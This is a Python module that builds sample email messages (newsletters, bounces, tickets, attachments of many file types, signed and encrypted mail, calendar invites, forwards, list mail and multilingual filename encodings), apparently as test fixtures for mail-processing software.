# SPDX-License-Identifier: BSD-2-Clause
"""Mail as programs of all kinds write it, and as attackers do. Each maker yields what it is, and the octets of a message with CRLF."""
import base64
import email
import email.policy
import email.utils
import gzip
import io
import itertools
import random
import re
import time
import urllib.parse
import wave
import zlib
from email.header import Header
from email.mime.application import MIMEApplication
from email.mime.audio import MIMEAudio
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.message import MIMEMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email import encoders

from . import attachments as att

CRLF = email.policy.compat32.clone(linesep="\r\n")
OCTETS = "application/octet-stream"
count = itertools.count(1)


def octets(m):
    return m.as_bytes(policy=CRLF)


def headed(m, subject="Hello", author="Ann Example <ann@example.net>", **more):
    """The fields that every mail program writes; more: others, with _ for -, or None for one of these that is missing."""
    fields = {"Date": email.utils.formatdate(localtime=True), "From": author, "To": "u@example.org", "Subject": subject,
              "Message-ID": f"<{next(count)}.x@example.net>"} | {n.replace("_", "-"): v for n, v in more.items()}
    for name, value in fields.items():
        if value is not None:
            m[name] = value
    return m


def written(text, kind="plain", charset="utf-8", **head):
    return headed(MIMEText(text, kind, charset), **head)


def multipart(kind, *parts, **params):
    m = MIMEMultipart(kind, **params)
    for part in parts:
        m.attach(part)
    return m


def part(content, kind, name=None, disposition="attachment"):
    """A file in base64, its name in both fields, as most programs have it."""
    m = MIMEBase(*kind.split("/"))
    m.set_payload(content)
    encoders.encode_base64(m)
    if name:
        m.set_param("name", name)
        m.add_header("Content-Disposition", disposition, filename=name)
    return m


def typed(text, kind):
    """Text of a type that the library would take apart."""
    m = MIMEText(text)
    m.set_type(kind)
    return m


def attached(content, kind, name, text="See the attachment.\n", **head):
    return headed(multipart("mixed", MIMEText(text), part(content, kind, name)), **head)


def raw(head, body, **changed):
    """A message by hand. head: lines of its header, but those that all mail has."""
    first = headed(MIMEBase("text", "plain"), **changed)
    del first["Content-Type"], first["MIME-Version"]
    return octets(first).rstrip(b"\r\n") + b"\r\n" + "\r\n".join(head).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


# ---- files ----

CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
PDF = att.pdf(CATALOG, b"<</Type /Pages /Kids [] /Count 0>>")
VBA = att.compound([("Macros", 1, b""), ("VBA", 1, b""), ("_VBA_PROJECT", 2, b"\xcc\x61" + bytes(5000))])
OLD_WORD = att.compound([("WordDocument", 2, b"\xec\xa5\xc1\0" + bytes(5000)), ("1Table", 2, bytes(4096))])
OLD_EXCEL = att.compound([("Workbook", 2, att.workbook((0x809, bytes(16)), (0x85, bytes(6) + b"\6Sheet1"), (10, b"")))])
OOXML = "application/vnd.openxmlformats-officedocument."
WORD, EXCEL, SLIDES = OOXML + "wordprocessingml.document", OOXML + "spreadsheetml.sheet", OOXML + "presentationml.presentation"
RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
LINK = ('<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.net/" '
        'TargetMode="External"/>')


def office(folder, main, kind, *more):
    types = (f'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/{folder}/{main}" '
             f'ContentType="{kind}.main+xml"/></Types>')
    return att.zipped([("[Content_Types].xml", types), ("_rels/.rels", RELATIONS % ""), (f"{folder}/{main}", "<?xml version='1.0'?><x/>"),
                       (f"{folder}/_rels/{main}.rels", RELATIONS % LINK), *more])


def open_document(kind):
    return att.zipped([("mimetype", "application/vnd.oasis.opendocument." + kind), ("content.xml", "<?xml version='1.0'?><office:document-content/>"),
                       ("META-INF/manifest.xml", "<?xml version='1.0'?><manifest:manifest/>")], 0)


def sound():
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(1)
        w.setframerate(8000)
        w.writeframes(b"\x80" * 4000)
    return out.getvalue()


GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
CALENDAR = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:{method}\r\nBEGIN:VEVENT\r\nUID:{method}@example.net\r\nDTSTART:20270104T090000Z\r\nSUMMARY:Lunch\r\n"
            "ORGANIZER:mailto:ann@example.net\r\nATTENDEE:mailto:u@example.org\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
VCARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann Example\r\nEMAIL:ann@example.net\r\nURL:https://www.example.net/\r\nEND:VCARD\r\n"
PATCH = """From 0123456789012345678901234567890123456789 Mon Sep 17 00:00:00 2001
From: Ann <ann@example.net>
Date: Wed, 25 Nov 2026 12:00:00 +0100
Subject: [PATCH] fix

---
 a.c | 2 +-
diff --git a/a.c b/a.c
--- a/a.c
+++ b/a.c
@@ -1 +1 @@
-int a;
+int b;
--
2.39.5
"""


# ---- good mail ----

def newsletters():
    links = "".join(f'<p><a href="https://click.example.net/t/{i}?u=abc%3D%3D&amp;s=1">Offer {i}</a> <img src="https://cdn.example.net/{i}.png" width=1></p>'
                    for i in range(120))
    foot = '<p><a href="https://click.example.net/u/1">Unsubscribe</a> or write to <a href="mailto:out@example.net?subject=stop">us</a></p>'
    pages = {
        "many links": links + foot,
        "a tracker, and the address of the shop as text": '<a href="https://click.mailer.example/x/1">www.example.net</a>' + foot,
        "style, script and comments of an editor": "<style>a{color:red;background:url(https://cdn.example.net/a.png)}</style>"
                                                   "<!--[if mso]><v:rect xmlns:v='urn:schemas-microsoft-com:vml'/><![endif]-->" + links,
        "relative links and anchors": '<a name="top"></a><a href="#top">up</a><a href="">here</a><a href="javascript:void(0)">menu</a>' + links,
        "images within": f'<img src="data:image/gif;base64,{base64.b64encode(GIF).decode()}">' + foot,
        "links to social networks": '<a href="https://youtu.be/abc">film</a><a href="https://t.me/shop">chat</a><a href="https://lnkd.in/1">us</a>' + foot,
        "through a filter that rewrites links": '<a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.example.net%2Fa&amp;data=05">'
                                                'www.example.net</a>' + foot,
        "a name in other letters": '<a href="https://b\u00fccher.example.net/">b\u00fccher.example.net</a> <a href="https://xn--bcher-kva.example/">books</a>' + foot,
    }
    for name, page in pages.items():
        html = f"<html><head><title>News</title></head><body>{page}</body></html>"
        m = multipart("alternative", MIMEText("News\n\nhttps://click.example.net/t/1\nUnsubscribe: https://click.example.net/u/1\n"), MIMEText(html, "html", "utf-8"))
        yield name, octets(headed(m, "News of the week", "Shop <news@example.net>", List_Unsubscribe="<https://click.example.net/u/1>, <mailto:out@example.net>",
                                  List_Unsubscribe_Post="List-Unsubscribe=One-Click", Precedence="bulk", Reply_To="Shop <service@shop.example>",
                                  Feedback_ID="1:2:mailer", X_Mailer="Mailer 3.1"))
        yield name + ", HTML alone", octets(written(html, "html", author="Shop <news@example.net>", To="undisclosed-recipients:;"))


def machines():
    ticket = "We have your request.\n\n> On Monday Ann wrote:\n> it does not work: see http://192.0.2.17:8080/status\n\nhttps://help.example.net/t/17\n"
    yield "a ticket", octets(written(ticket, subject="[#17] It does not work", author='"Ann (Support)" <support@example.net>', Reply_To="help+17@desk.example",
                                     Auto_Submitted="auto-generated", X_Auto_Response_Suppress="All", Precedence="bulk"))
    yield "a ticket that names who wrote", octets(written(ticket, subject="[JIRA] (A-17)", author='"ann@example.net (Jira)" <jira@example.net>',
                                                          Reply_To="jira@desk.example"))
    yield "a list that writes for its member", octets(written(ticket, author="\"'ann@example.com' via Sales\" <sales@example.net>", Reply_To="ann@example.com",
                                                              List_Id="<sales.example.net>"))
    yield "an answer while away", octets(written("I am away until Monday.\n", subject="Out of office: Hello", Auto_Submitted="auto-replied", Precedence="junk",
                                                 In_Reply_To="<1@example.org>", References="<1@example.org>"))
    yield "an answer of Exchange", octets(written("<html><body>away</body></html>", "html", "iso-8859-1", subject="Automatic reply: Hello",
                                                  X_Auto_Response_Suppress="All", Auto_Submitted="auto-generated"))
    yield "a monitor with a log", octets(attached(b"2026-11-25 12:00:00 ERROR java.lang.Exception at a.b.C(C.java:17)\n" * 300, "text/plain", "server.log",
                                                  Auto_Submitted="auto-generated"))
    yield "cron", octets(written("rsync: /srv/www.old/index.php: done\n0 23 * * * root /usr/bin/a.sh\n", subject="Cron <root@www> a.sh", author="root@example.net (Cron Daemon)",
                                 Auto_Submitted="auto-generated", X_Cron_Env="<SHELL=/bin/sh>"))
    yield "a scanner", raw(['MIME-Version: 1.0', 'Content-Type: application/pdf; name="scan0001.pdf"', "Content-Transfer-Encoding: base64",
                            'Content-Disposition: attachment; filename="scan0001.pdf"'], base64.encodebytes(PDF).replace(b"\n", b"\r\n"), subject="Scan", author="scanner@example.net")
    yield "a scanner without Date and Message-ID", raw(['MIME-Version: 1.0', 'Content-Type: image/tiff; name=SCAN.TIF', "Content-Transfer-Encoding: base64"],
                                                       base64.encodebytes(b"II*\0\x08\0\0\0" + bytes(200)).replace(b"\n", b"\r\n"), author="copier@example.net", Date=None,
                                                       Message_ID=None)
    yield "a fax", octets(attached(b"II*\0\x08\0\0\0" + bytes(400), "image/tiff", "fax.tif", subject="Fax from +49 30 1234567"))
    read = typed("Final-Recipient: rfc822;ann@example.net\nDisposition: manual-action/MDN-sent-manually; displayed\n", "message/disposition-notification")
    yield "a receipt of reading", octets(headed(multipart("report", MIMEText("Your message was read.\n"), read, report_type="disposition-notification"), "Read: Hello"))
    yield "a parcel", octets(written('<p>Your parcel <a href="https://track.example.net/?n=1">00340434161094042557</a> comes <b>today</b>: '
                                     '<a href="https://track.example.net/">track.example.net</a></p>', "html", subject="Your parcel comes today", author="Post <post@example.net>"))
    report = gzip.compress(b"<?xml version='1.0'?><feedback/>")
    yield "a DMARC report", octets(headed(multipart("mixed", MIMEText("This is an aggregate report.\n"), part(report, "application/gzip", "google.com!example.org!1!2.xml.gz")),
                                          "Report domain: example.org Submitter: example.net Report-ID: 1", "noreply-dmarc@example.net"))
    yield "a DMARC report as zip", octets(headed(part(att.zipped([("example.net!example.org!1!2.xml", "<?xml version='1.0'?><feedback/>")]), "application/zip",
                                                      "example.net!example.org!1!2.zip"), "Report Domain: example.org"))


def bounces():
    status = MIMEBase("message", "delivery-status")
    status.set_payload([email.message_from_string("Reporting-MTA: dns; mail.example.net\n\n"),
                        email.message_from_string("Final-Recipient: rfc822; b@example.com\nAction: failed\nStatus: 5.1.1\n\n")])
    back = MIMEMessage(attached(PDF, "application/pdf", "offer.pdf", author="u@example.org"))
    heads = typed("From: u@example.org\nTo: b@example.com\nSubject: offer\n", "text/rfc822-headers")
    for name, last in (("with the message", back), ("with its header", heads), ("without it", None)):
        parts = [MIMEText("It could not be delivered.\n"), status, *([last] if last else [])]
        yield name, octets(headed(multipart("report", *parts, report_type="delivery-status"), "Undelivered Mail Returned to Sender",
                                  "MAILER-DAEMON@example.net (Mail Delivery System)", Auto_Submitted="auto-replied"))
    yield "of qmail", octets(written("Hi. This is the qmail-send program at example.net.\n\n<b@example.com>:\nno such user\n\n--- Below this line is a copy of the message.\n\n"
                                     "Return-Path: <u@example.org>\nSubject: x\n\nhello\n", "plain", "us-ascii", subject="failure notice", author="MAILER-DAEMON@example.net"))


def documents():
    kinds = {
        "PDF": (PDF, "application/pdf", "Invoice 17.pdf"),
        "PDF with objects in a stream": (att.pdf(CATALOG, att.object_stream(b"1 0 <</Type /Pages>>")), "application/pdf", "invoice.PDF"),
        "PDF with pictures": (att.pdf(CATALOG, b"<</Length 4000 /Filter /FlateDecode>>\nstream\n" + zlib.compress(bytes(range(256)) * 40) + b"\nendstream"), "application/pdf", "p.pdf"),
        "PDF that opens at a page": (att.pdf(b"<</Type /Catalog /OpenAction [3 0 R /Fit]>>"), "application/pdf", "book.pdf"),
        "PDF with a link": (att.pdf(CATALOG, b"<</Subtype /Link /A <</S /URI /URI (https://www.example.net/)>>>>"), "application/pdf", "links.pdf"),
        "PDF with a password": (att.pdf(CATALOG) + b"trailer <</Encrypt 5 0 R>>\n%%EOF\n", "application/pdf", "payslip.pdf"),
        "invoice with its data (ZUGFeRD)": (att.pdf(CATALOG, b"<</Type /Filespec /F (factur-x.xml) /EF <</F 9 0 R>>>>", b"<</Type /EmbeddedFile /Length 1>>\nstream\nx\nendstream"),
                                            "application/pdf", "RE-2026-17.pdf"),
        "form with a script": (att.pdf(CATALOG, b"<</AcroForm <<>> /AA <</C <</S /JavaScript /JS (AFNumber_Format\\(2\\))>>>>>>"), "application/pdf", "form.pdf"),
        "PDF in a zip": (att.zipped([("invoices/2026-11.pdf", PDF), ("invoices/2026-10.pdf", PDF)]), "application/zip", "invoices.zip"),
        "PDF declared as octets": (PDF, OCTETS, "Invoice 18.pdf"),
        "docx": (office("word", "document.xml", WORD), WORD, "Offer.docx"),
        "docx declared as octets": (office("word", "document.xml", WORD), OCTETS, "Offer.docx"),
        "docx declared as Word": (office("word", "document.xml", WORD), "application/msword", "Offer.docx"),
        "docx with a picture": (office("word", "document.xml", WORD, ("word/media/image1.png", att.PNG)), WORD, "Report v1.2.docx"),
        "xlsx": (office("xl", "workbook.xml", EXCEL), EXCEL, "Numbers.xlsx"),
        "xlsx with a chart of Word": (office("xl", "workbook.xml", EXCEL, ("xl/charts/chart1.xml", "<x/>")), EXCEL, "Chart.xlsx"),
        "pptx": (office("ppt", "presentation.xml", SLIDES), SLIDES, "Slides.pptx"),
        "pptx with a table in it": (office("ppt", "presentation.xml", SLIDES, ("ppt/embeddings/Microsoft_Excel_Sheet1.xlsx", office("xl", "workbook.xml", EXCEL))), SLIDES, "T.pptx"),
        "odt": (open_document("text"), "application/vnd.oasis.opendocument.text", "Brief.odt"),
        "ods": (open_document("spreadsheet"), "application/vnd.oasis.opendocument.spreadsheet", "Tabelle.ods"),
        "old Word": (OLD_WORD, "application/msword", "letter.doc"),
        "old Excel": (OLD_EXCEL, "application/vnd.ms-excel", "numbers.xls"),
        "HTML called xls": (b"<html><table><tr><td>1</td></tr></table></html>", "application/vnd.ms-excel", "export.xls"),
        "RTF": (b"{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}\\f0 Hello\\par}", "application/rtf", "letter.rtf"),
        "RTF called doc": (b"{\\rtf1\\ansi Hello}", "application/msword", "letter.doc"),
        "CSV": (b"number;name;amount\r\n" + b"".join(b"%d;Ann;%d.50\r\n" % (i, i) for i in range(20000)), "text/csv", "table.csv"),
        "Chinese CSV": ("付款,金额\r\n张三,100\r\n".encode("gb18030"), "text/csv", "a.csv"),
        "Russian text": ("л/с 17, счёт\r\n".encode("windows-1251") * 40, "text/plain", "a.txt"),
        "docx with a password": (att.compound([("EncryptionInfo", 2, b"x"), ("EncryptedPackage", 2, b"x")]), WORD, "salary.docx"),
        "a message of Outlook": (att.compound([("__properties_version1.0", 2, bytes(4096)), ("__substg1.0_001A001F", 2, "IPM.Note".encode("utf-16le"))]),
                                 "application/vnd.ms-outlook", "Re_ offer.msg"),
        "EPUB": (att.zipped([("mimetype", "application/epub+zip"), ("a.xhtml", "<html/>")], 0), "application/epub+zip", "book.epub"),
        "octets of any kind": (b"\xeb\x23" + random.Random(1).randbytes(5000), OCTETS, "measured.dat"),
        "CSV called a table of Excel": (b"a,b\r\n1,2\r\n" * 50, "application/vnd.ms-excel", "table.csv"),
        "XML": (b"<?xml version='1.0'?><Document xmlns='urn:iso:std:iso:20022:tech:xsd:pain.001.001.03'/>", "text/xml", "payment.xml"),
        "XML of an invoice (XRechnung)": (b"<?xml version='1.0'?><Invoice xmlns='urn:oasis:names:specification:ubl:schema:xsd:Invoice-2'/>", "application/xml", "x-rechnung.xml"),
        "JSON": (b'{"a": [1, 2, {"b": null}]}', "application/json", "export.json"),
        "zip of photos": (att.zipped([(f"DSC_{i}.JPG", att.JPEG) for i in range(30)]), "application/x-zip-compressed", "photos.zip"),
        "zip in a zip": (att.zipped([("old.zip", att.zipped([("a.txt", "x")])), ("b.txt", "y")]), "application/zip", "backup.zip"),
        "zip with a password": (att.encrypted_zip(), "application/zip", "secret.zip"),
        "tar.gz": (att.tarred([("src/a.c", b"int a;\n"), ("src/README", b"hello\n")], "w:gz"), "application/gzip", "src-1.0.tar.gz"),
        "tar with a link and a script": (att.tarred([("src/libx-1.txt", b"x"), ("src/configure", b"#!/bin/sh\n")], "w:gz", [("src/x", "libx-1.txt")]), "application/x-gzip", "src.tgz"),
        "nothing but a name": (b"", "text/plain", "empty.txt"),
    }
    for name, (content, kind, filename) in kinds.items():
        yield name, octets(attached(content, kind, filename, subject=f"Your document: {filename}"))
    yield "nothing else than a PDF", octets(headed(multipart("mixed", part(PDF, "application/pdf", "a.pdf"))))
    yield "empty text and a PDF", octets(attached(PDF, "application/pdf", "a.pdf", text=""))
    yield "ten PDFs", octets(headed(multipart("mixed", MIMEText("all of them\n"), *[part(PDF, "application/pdf", f"{i}.pdf") for i in range(10)])))
    yield "from a phone", octets(headed(multipart("mixed", MIMEText("\n\nSent from my phone\n"), part(PDF, "application/pdf", "Scan 25.11.2026, 12.00.pdf", "inline"), MIMEText("\n"))))


def signed():
    text = MIMEText("Signed.\n")
    yield "S/MIME", octets(headed(multipart("signed", text, part(b"0\x82\1\0" + bytes(256), "application/pkcs7-signature", "smime.p7s"), micalg="sha-256",
                                            protocol="application/pkcs7-signature"))).replace(b"\r\n\r\n--", b"\r\n\r\nThis is an S/MIME signed message\r\n\r\n--", 1)
    yield "S/MIME of Outlook", octets(headed(multipart("signed", multipart("mixed", multipart("alternative", text, MIMEText("<p>Signed.", "html")), part(PDF, "application/pdf", "a.pdf")),
                                                       part(b"0\x82\1\0" + bytes(256), "application/x-pkcs7-signature", "smime.p7s"), micalg="SHA1",
                                                       protocol="application/x-pkcs7-signature")))
    armor = "-----BEGIN PGP {}-----\n\niQEzBAEBCAAdFiEE\n=abcd\n-----END PGP {}-----\n"
    signature = typed(armor.format("SIGNATURE", "SIGNATURE"), "application/pgp-signature")
    signature.set_param("name", "signature.asc")
    yield "PGP/MIME", octets(headed(multipart("signed", text, signature, micalg="pgp-sha256", protocol="application/pgp-signature")))
    version, secret = (MIMEApplication(b"Version: 1\n", "pgp-encrypted", encoders.encode_7or8bit),
                       MIMEApplication(armor.format("MESSAGE", "MESSAGE").encode(), "octet-stream", encoders.encode_7or8bit, name="encrypted.asc"))
    yield "encrypted by PGP", octets(headed(multipart("encrypted", version, secret, protocol="application/pgp-encrypted"), "..."))
    yield "PGP in the text", octets(written("-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\nHello\n" + armor.format("SIGNATURE", "SIGNATURE")))
    sealed = part(b"0\x80\6\x09*\x86H\x86\xf7\r\1\7\3" + bytes(900), "application/pkcs7-mime", "smime.p7m")
    sealed.set_param("smime-type", "enveloped-data")
    yield "encrypted by S/MIME", octets(headed(sealed, "..."))
    yield "a key", octets(attached(armor.format("PUBLIC KEY BLOCK", "PUBLIC KEY BLOCK").encode(), "application/pgp-keys", "OpenPGP_0x0123.asc"))
    yield "a certificate", octets(attached(b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n", "application/x-x509-ca-cert", "ann.crt"))


def calendars():
    for method in ("REQUEST", "REPLY", "CANCEL"):
        said = MIMEText(CALENDAR.format(method=method), "calendar")
        said.set_param("method", method)
        yield method, octets(headed(multipart("alternative", MIMEText("Lunch\n"), MIMEText("<p>Lunch", "html"), said), "Invitation: Lunch"))
        yield method + " attached, too", octets(headed(multipart("mixed", multipart("alternative", MIMEText("Lunch\n"), said),
                                                                 part(CALENDAR.format(method=method).encode(), "application/ics", "invite.ics")), "Invitation: Lunch"))
    yield "a card", octets(attached(VCARD.encode(), "text/vcard", "Ann Example.vcf"))
    yield "a card of Outlook", octets(attached(VCARD.encode(), "text/x-vcard", "ann.vcf"))


def forwarded():
    inner = attached(PDF, "application/pdf", "offer.pdf", subject="Offer")
    yield "as an attachment", octets(headed(multipart("mixed", MIMEText("look\n"), MIMEMessage(inner)), "Fwd: Offer"))
    eml = MIMEMessage(written("hello\n", subject="Hello"))
    eml.set_param("name", "Re: your order at amazon.com.eml")
    eml.add_header("Content-Disposition", "attachment", filename="Re: your order at amazon.com.eml")
    yield "as a file", octets(headed(multipart("mixed", MIMEText("look\n"), eml), "Fwd: Hello"))
    named = MIMEMessage(written("hello\n", subject="Your order at amazon.com"))
    named.add_header("Content-Disposition", "attachment", filename="Your order at amazon.com")
    yield "by the subject as its name", octets(headed(multipart("mixed", MIMEText("look\n"), named), "Fwd: Hello"))
    yield "as a file in octets", octets(attached(octets(inner), OCTETS, "Offer.eml"))
    yield "inline", octets(written("look\n\n-------- Forwarded Message --------\nFrom: Bob <bob@example.com>\nTo: ann@example.net\nSubject: x\n\nsee www.example.com.\n", subject="Fwd: x"))
    yield "three deep", octets(headed(multipart("mixed", MIMEMessage(headed(multipart("mixed", MIMEMessage(headed(multipart("mixed", MIMEMessage(inner))))))))))
    yield "inline by Outlook", octets(written('<div><b>From:</b> Bob &lt;<a href="mailto:bob@example.com">bob@example.com</a>&gt;<br><b>Subject:</b> x</div>'
                                              '<a href="file:///C:/Users/ann/a.htm">a.htm</a>', "html", "windows-1252", subject="WG: x", Thread_Index="AQHZ"))
    far = "".join(f"Received: from mx{i}.example.com (mx{i}.example.com [192.0.2.{i}])\r\n by mx{i + 1}.example.com with ESMTPS id {i}; {email.utils.formatdate()}\r\n" for i in range(15))
    yield "fifteen servers", far.encode() + octets(written("hello\n"))
    yield "through us and a list", (f"Received: from a.example (a.example [192.0.2.9]) by mx.example.org with ESMTP id 1; {email.utils.formatdate()}\r\n" * 2).encode() + \
        octets(written("hello\n", author="Bob <bob@example.org>", List_Id="<l.example.net>"))


def lists():
    head = {"List_Id": "Talk <talk.example.net>", "List_Post": "<mailto:talk@example.net>", "List_Unsubscribe": "<mailto:talk-leave@example.net>", "Precedence": "list",
            "Sender": "talk-bounces@example.net", "To": "talk@example.net", "Reply_To": "talk@lists.example"}
    foot = "_______________________________________________\nTalk mailing list -- talk@example.net\nhttps://lists.example.net/talk\n"
    yield "a footer in the text", octets(written("Hello\n" + foot, subject="[Talk] Hello", **head))
    yield "a footer as a part", octets(headed(multipart("mixed", MIMEText("Hello\n"), MIMEText(foot)), "[Talk] Hello", **head))
    yield "signed, with a footer", octets(headed(multipart("mixed", multipart("signed", MIMEText("Hi\n"), part(b"0\x82" + bytes(90), "application/pkcs7-signature", "smime.p7s")),
                                                                   MIMEText(foot)), "[Talk] Hi", **head))
    digest = multipart("digest", *[MIMEMessage(written(f"message {i}\n", subject=f"topic {i}")) for i in range(12)])
    yield "a digest", octets(headed(multipart("mixed", MIMEText("Today's Topics:\n"), digest, MIMEText(foot)), "Talk Digest, Vol 1, Issue 2", **head))
    yield "a text after the last boundary", octets(headed(multipart("mixed", MIMEText("Hello\n")), **head)) + foot.replace("\n", "\r\n").encode()
    yield "From rewritten", octets(written("Hello\n" + foot, author="Ann via Talk <talk@example.net>", **head | {"Reply_To": "Ann <ann@example.com>"}))


LANGUAGES = {
    "German": ("Grüße aus München, Straße 5", ["utf-8", "iso-8859-1", "iso-8859-15", "windows-1252"]),
    "Japanese": ("お見積書の件について", ["utf-8", "iso-2022-jp", "shift_jis", "euc-jp"]),
    "Arabic": ("فاتورة شهر نوفمبر", ["utf-8", "windows-1256"]),
    "Hebrew": ("חשבונית לחודש", ["utf-8", "windows-1255"]),
    "Russian": ("Счёт за ноябрь", ["utf-8", "koi8-r", "windows-1251"]),
    "Chinese": ("发票和合同", ["utf-8", "gb2312", "gb18030"]),
    "Taiwanese": ("發票和合約", ["utf-8", "big5"]),
    "Korean": ("견적서 첨부합니다", ["utf-8", "euc-kr"]),
    "Greek": ("Τιμολόγιο", ["iso-8859-7"]),
    "Thai": ("ใบแจ้งหนี้", ["tis-620"]),
}


def name_2231(text, charset):
    return f"*={charset}''{urllib.parse.quote(text.encode(charset), safe='')}"


def name_2047(text, charset):
    """In quotes, where RFC 2047 does not allow it: as Outlook does."""
    return f'="=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="'


def name_segments(text, charset):
    quoted = urllib.parse.quote(text.encode(charset), safe="")
    pieces = re.findall(r"(?:%..|[^%]){1,12}", quoted)
    return "; filename".join(f"*{i}*={charset + chr(39) * 2 if i == 0 else ''}{piece}" for i, piece in enumerate(pieces))


def name_2047_folded(text, charset):
    half = len(text) // 2
    return '="{}\r\n {}"'.format(*[f"=?{charset}?B?{base64.b64encode(t.encode(charset)).decode()}?=" for t in (text[:half], text[half:])])


def named(text, charset, *forms):
    """A mail of this charset with a PDF for each of these forms of its name."""
    name = text + ".pdf"
    subject = Header(text, charset).encode() if charset not in ("tis-620", "gb18030") else f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="
    content = base64.encodebytes(PDF).replace(b"\n", b"\r\n")
    said = base64.encodebytes((text + "\n").encode(charset)).replace(b"\n", b"\r\n")
    body = f"--=_a\r\nContent-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n".encode() + said
    for form in forms:
        body += f"--=_a\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename{form(name, charset)}\r\n\r\n".encode() + content
    return raw(["MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="=_a"'], body + b"--=_a--\r\n", subject=subject,
               author=f"=?{charset}?B?{base64.b64encode(text[:5].encode(charset)).decode()}?= <ann@example.net>")


def languages():
    for language, (text, charsets) in LANGUAGES.items():
        for charset in charsets:
            yield f"{language}, {charset}, name as RFC 2231", named(text, charset, name_2231)
            yield f"{language}, {charset}, name as Outlook", named(text, charset, name_2047, name_2047_folded)
    yield "Japanese, name in segments", named(LANGUAGES["Japanese"][0], "utf-8", name_segments)
    yield "Japanese, name of an old program", named(LANGUAGES["Japanese"][0], "iso-2022-jp", lambda name, charset: f'="{name.encode(charset).decode()}"')
    yield "Arabic, a name with marks of direction", named("\u200fفاتورة (2026)\u200e", "utf-8", name_2231)
    yield "Arabic, a name that is embedded", named("\u202bفاتورة 2026\u202c", "utf-8", name_2231)
    yield "a name of a phone, isolated", named("\u2068Ann Example\u2069", "utf-8", name_2231)
    yield "Japanese, a link before a full stop", octets(written("詳しくは https://www.example.net/a。または www.example.net。お願いします。info@example.net。\n"))
    yield "Japanese, a page", octets(written('<p>詳しくは<a href="https://www.example.net/">www.example.net</a>。</p>', "html", "iso-2022-jp", subject=Header("お知らせ", "iso-2022-jp")))
    yield "German, 8 bit", raw(["MIME-Version: 1.0", "Content-Type: text/plain; charset=iso-8859-1", "Content-Transfer-Encoding: 8bit"], "Grüße\r\n".encode("latin-1"),
                               subject="=?iso-8859-1?Q?Gr=FC=DFe?=")
    yield "German, a name in both ways", raw(
        ["MIME-Version: 1.0", 'Content-Type: application/pdf; name="=?utf-8?Q?Rechnung_M=C3=A4rz=2Epdf?="', "Content-Transfer-Encoding: base64",
         "Content-Disposition: attachment; filename*=utf-8''Rechnung%20M%C3%A4rz.pdf; filename=\"Rechnung Maerz.pdf\""], base64.encodebytes(PDF).replace(b"\n", b"\r\n"))
    yield "a long name that is folded", raw(
        ["MIME-Version: 1.0", 'Content-Type: application/pdf;\r\n\tname="A very long name of a file that does not fit into\r\n\tone line of a header at all.pdf"',
         "Content-Transfer-Encoding: base64"], base64.encodebytes(PDF).replace(b"\n", b"\r\n"))


def media():
    for name, (content, kind, filename) in {
        "JPEG": (att.JPEG, "image/jpeg", "IMG_0001.JPG"), "PNG": (att.PNG, "image/png", "screen shot 1.png"), "JPEG called jpg": (att.JPEG, "image/jpg", "a.jpg"),
        "GIF": (GIF, "image/gif", "logo.gif"), "HEIC": (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(60), "image/heic", "IMG_0002.HEIC"),
        "SVG": (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "image/svg+xml", "logo.svg"),
        "a picture of another kind": (b"RIFF\x40\0\0\0WEBPVP8 " + bytes(60), "image/webp", "a.webp"),
        "voice mail": (sound(), "audio/wav", "message 030 1234567.wav"), "voice mail as x-wav": (sound(), "audio/x-wav", "vm.wav"),
        "MP3": (b"ID3\3\0\0\0\0\0\0\xff\xfb\x90d" + bytes(800), "audio/mpeg", "a.mp3"), "film": (b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(200), "video/mp4", "film.mp4"),
        "winmail.dat": (b"\x78\x9f\x3e\x22\1\0\1\6\x90\x08\0" + bytes(300), "application/ms-tnef", "winmail.dat"),
        "a drawing": (b"AC1027\0\0\0\0\0" + bytes(200), "application/acad", "plan.dwg"), "a font": (b"\0\1\0\0\0\x0a" + bytes(200), "font/ttf", "a.ttf"),
        "a project of 3D": (b"solid x\nfacet normal 0 0 1\nendsolid x\n", "model/stl", "part.stl"),
    }.items():
        yield name, octets(attached(content, kind, filename))
    page = '<p>Thank you.<img src="cid:logo@x"><img src="cid:photo@x"></p><table><tr><td>1 book<td>10.00</table>'
    for name, kind in (("a receipt with pictures", "related"), ("the same, by another program", "mixed")):
        pictures = [MIMEImage(content, subtype, name=f"{cid}.{subtype}") for cid, content, subtype in (("logo", att.PNG, "png"), ("photo", att.JPEG, "jpeg"))]
        for cid, picture in zip(("logo", "photo"), pictures):
            picture.add_header("Content-ID", f"<{cid}@x>")
            picture.add_header("Content-Disposition", "inline", filename=picture.get_param("name"))
        yield name, octets(headed(multipart("alternative", MIMEText("Thank you.\n"), multipart(kind, MIMEText(page, "html"), *pictures)), "Your receipt"))
